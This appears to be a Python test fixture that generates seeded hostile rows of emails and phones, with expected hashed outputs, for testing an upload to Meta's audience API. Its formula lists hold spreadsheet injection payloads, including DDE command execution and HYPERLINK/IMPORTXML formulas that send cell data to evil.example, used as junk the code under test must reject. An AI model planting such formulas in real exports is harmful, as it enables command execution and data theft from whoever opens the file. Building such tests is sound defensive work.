"""Hostile member rows with their expected outcome, from a seeded generator.

Each row is an (email, phone) pair of raw values drawn from kinds that are either
usable, with the normalised value known when it is drawn (so the expected upload is
computed here, not by the code under test), or junk that Meta's rules make unusable
(shared/docs/facebook-marketing-api.md, section 3): empty, placeholders, spreadsheet
formulas, control characters, huge values, half-hashed strings, wrong shapes, and for
the encoder alone values of the wrong type. A row is expected in the audience when at
least one of its two keys is usable; otherwise it is rejected as "no identifying key".
"""

from __future__ import annotations

import csv
import functools
import hashlib
import io
import random
from collections import Counter
from dataclasses import dataclass, field
from decimal import Decimal

SCHEMA = ["EMAIL", "PHONE"]
NO_IDENTIFYING_KEY = "no identifying key"
MALFORMED_ROW = "malformed row"
WRONG_COLUMNS = "wrong number of columns"
DUPLICATE = "duplicate row"

FORMULAS = [
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/steal?x=\"&A1,\"Click\")",
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=cmd|' /C calc'!A0",
    "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")",
]
PLACEHOLDERS = ["", " ", "\t \n", "null", "NULL", "N/A", "n/a", "#N/A", "undefined", "None"]
CONTROLS = ["\x00", "\x07", "\x1b[31m", "\u202e", "\u200b", "\x7f", "\x85"]
PHONE_CONTROLS = ["\x00", "\x07", "\x1b", "\u202e", "\u200b", "\x7f", "\x85", "\r"]  # no digits among them
# Padding a spreadsheet or an export leaves around values: whitespace, invisible characters, or both.
WHITESPACE_PAD = [" ", "\t", "\u00a0", "\u3000"]
INVISIBLE_PAD = ["\u200b", "\ufeff", "\u2060", "\u00ad"]


def sha(text: str) -> str:
    return hashlib.sha256(text.encode("utf-8")).hexdigest()


@dataclass(frozen=True)
class HostileRow:
    email: object
    phone: object
    expected: tuple[str, str] | None  # the row as uploaded, or None: rejected (no identifying key)
    kinds: tuple[str, str]


@dataclass
class HostileSet:
    rows: list[HostileRow]
    kinds: Counter = field(default_factory=Counter)

    @property
    def expected_rows(self) -> set[tuple[str, str]]:
        return {row.expected for row in self.rows if row.expected is not None}

    @property
    def valid_rows(self) -> int:
        return sum(1 for row in self.rows if row.expected is not None)

    @property
    def rejected_rows(self) -> int:
        return sum(1 for row in self.rows if row.expected is None)

    @property
    def duplicates(self) -> int:
        return self.valid_rows - len(self.expected_rows)


# --- emails -------------------------------------------------------------------------------


def _email_base(rng: random.Random, index: int) -> str:
    local = rng.choice(["ann", "bo", "chloé", "d.o.e", "e+tag", "f_g", "h-i"]) + str(index)
    return f"{local}@{rng.choice(['example.com', 'mail.example.org', 'exämple.de', 'x.co'])}"


def email_usable(rng: random.Random, index: int) -> tuple[str, str, str]:
    """(raw value, uploaded value, kind)."""
    base = _email_base(rng, index)
    shape = rng.randrange(5)
    if shape == 0:
        return base, sha(base), "email clean"
    if shape == 1:
        return base.upper(), sha(base), "email upper case"
    if shape == 2:
        kinds = rng.choice([WHITESPACE_PAD, INVISIBLE_PAD, WHITESPACE_PAD + INVISIBLE_PAD])
        pad = "".join(rng.choices(kinds, k=rng.randint(1, 3)))
        return f"{pad}{base.title()}{pad[::-1]}", sha(base), "email padded with whitespace or invisibles"
    if shape == 3:
        digest = sha(base)
        return (digest.upper() if rng.random() < 0.5 else digest), digest, "email already hashed"
    return f"{base}\n", sha(base), "email with a line break"


def _email_junk_value(rng: random.Random, index: int, kind: str) -> object:
    if kind == "empty or placeholder":
        return rng.choice(PLACEHOLDERS)
    if kind == "spreadsheet formula":
        return rng.choice(FORMULAS)
    if kind == "too long":
        return "a" * rng.randint(250, 400) + "@example.com"
    if kind == "huge":  # mostly a few kB, now and then 100 kB
        return "x" * (rng.randint(1_000, 4_000) if rng.random() < 0.99 else 100_000)
    base = _email_base(rng, index)
    if kind == "control character":
        return base.replace("@", rng.choice(CONTROLS) + "@")
    if kind == "half-hashed":
        digest = sha(base)
        return rng.choice([digest[:32], digest[:63], digest + "0", digest[:63] + "g", "sha256:" + digest])
    return rng.choice([base.replace("@", "@@"), base + "@x.com", base.split("@")[0] + "@localhost",
                       base.replace("@", " @")])


EMAIL_JUNK = ["empty or placeholder", "spreadsheet formula", "control character", "too long", "huge", "half-hashed",
              "malformed address"]


def email_junk(rng: random.Random, index: int) -> tuple[object, str]:
    kind = rng.choice(EMAIL_JUNK)
    return _email_junk_value(rng, index, kind), f"email {kind}"


# --- phones -------------------------------------------------------------------------------


def phone_usable(rng: random.Random, index: int) -> tuple[str, str, str]:
    national = str(2_000_000_000 + index * 37 + rng.randrange(37))  # unique per row, US shape
    area, exchange, line = national[:3], national[3:6], national[6:]
    expected = sha("1" + national)
    formats = [
        (f"+1 {area} {exchange} {line}", "phone international"),
        (f"({area}) {exchange}-{line}", "phone national"),
        (f"{area}.{exchange}.{line}", "phone dotted"),
        (f"1{national}", "phone digits"),
        (f"+1 ({area}) {exchange}-{line} ext. {rng.randint(1, 999)}", "phone with extension"),
        (f"+1 {area}\x00{exchange}\x07{line}", "phone with control characters"),
        (f"\ufeff +1-{area}-{exchange}-{line}\u200b", "phone padded with invisibles"),
    ]
    raw, kind = rng.choice(formats)
    return raw, expected, kind


PHONE_JUNK = ["empty or placeholder", "spreadsheet formula", "control characters", "too many digits", "no digits",
              "half-hashed"]


def phone_junk(rng: random.Random, index: int) -> tuple[object, str]:
    kind = rng.choice(PHONE_JUNK)
    if kind == "empty or placeholder":
        value: object = rng.choice(PLACEHOLDERS)
    elif kind == "spreadsheet formula":
        value = rng.choice(["=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "=HYPERLINK(\"x\")", "@SUM(A:A)"])
    elif kind == "control characters":
        value = "".join(rng.choices(PHONE_CONTROLS, k=rng.randint(1, 6)))
    elif kind == "too many digits":
        value = rng.choice(["9" * 300, "+" + "1" * 25, "5" * rng.randint(21, 40)])
    elif kind == "no digits":
        value = "call me maybe" * rng.randint(1, 50)
    else:  # a digest's letters only, never 64 long (that would be a digest): no digit, no phone
        letters = "".join(ch for ch in sha(str(index)) if not ch.isdigit()) * 3
        value = letters[: rng.choice([32, 63, 65])]
    return value, f"phone {kind}"


# --- values of the wrong type (the encoder's callers may pass anything) ----------------------

WRONG_TYPES: list[object] = [True, False, ["a@example.com"], {"email": "a@example.com"}, object(), b"\xff\xfe",
                             float("inf"), float("nan"), Decimal("NaN"), complex(1, 2), set(), (1, 2)]


@functools.lru_cache(maxsize=4)
def hostile_rows(count: int, *, seed: int, wrong_types: bool = False) -> HostileSet:
    """`count` rows (cached: several tests feed the same rows to different doors)."""
    rng = random.Random(seed)
    rows: list[HostileRow] = []
    kinds: Counter = Counter()
    for index in range(count):
        if rows and rng.random() < 0.01:  # the same person again, written the same way
            again = rows[rng.randrange(len(rows))]
            rows.append(again)
            kinds["duplicate of an earlier row"] += 1
            continue
        email_ok, phone_ok = rng.random() < 0.45, rng.random() < 0.35
        if email_ok:
            email, email_sent, email_kind = email_usable(rng, index)
        else:
            email, email_kind = email_junk(rng, index)
            email_sent = ""
        if phone_ok:
            phone, phone_sent, phone_kind = phone_usable(rng, index)
        else:
            phone, phone_kind = phone_junk(rng, index)
            phone_sent = ""
        if wrong_types and rng.random() < 0.05:
            if rng.random() < 0.5:
                email, email_sent, email_kind = rng.choice(WRONG_TYPES), "", "email of a wrong type"
            else:
                phone, phone_sent, phone_kind = rng.choice(WRONG_TYPES), "", "phone of a wrong type"
        if wrong_types and rng.random() < 0.01:  # a number where text was expected: still a phone
            number = 2_000_000_000 + index * 37
            phone, phone_sent, phone_kind = rng.choice([1_0000000000 + number, float(1_0000000000 + number)]), sha(
                "1" + str(number)
            ), "phone as a number"
        kinds[email_kind] += 1
        kinds[phone_kind] += 1
        expected = (email_sent, phone_sent) if (email_sent or phone_sent) else None
        rows.append(HostileRow(email, phone, expected, (email_kind, phone_kind)))
    return HostileSet(rows=rows, kinds=kinds)


def hostile_csv(
    hostile: HostileSet, *, seed: int, amplitude: bool = False, malformed_share: float = 0.005
) -> tuple[bytes, int]:
    """The rows as a CSV file (UTF-8) with some lines of the wrong width mixed in, and how many.

    `amplitude`: Amplitude's export columns first (amplitude_id, user_id).
    """
    rng = random.Random(seed)
    out = io.StringIO()
    # RFC 4180 line ends: with "\n" alone, csv.writer would leave a lone "\r" in a value unquoted.
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow(["amplitude_id", "user_id", "email", "phone"] if amplitude else ["email", "phone"])
    malformed = 0
    for number, row in enumerate(hostile.rows):
        lead = [str(100_000 + number), f"user-{number}" if rng.random() < 0.9 else ""] if amplitude else []
        writer.writerow([*lead, row.email, row.phone])
        if rng.random() < malformed_share:
            width = len(lead) + rng.choice([1, 3])
            writer.writerow([*lead, *(["=cmd|' /C calc'!A0", "x@example.com", "extra"][: width - len(lead)])])
            malformed += 1
    return out.getvalue().encode("utf-8"), malformed
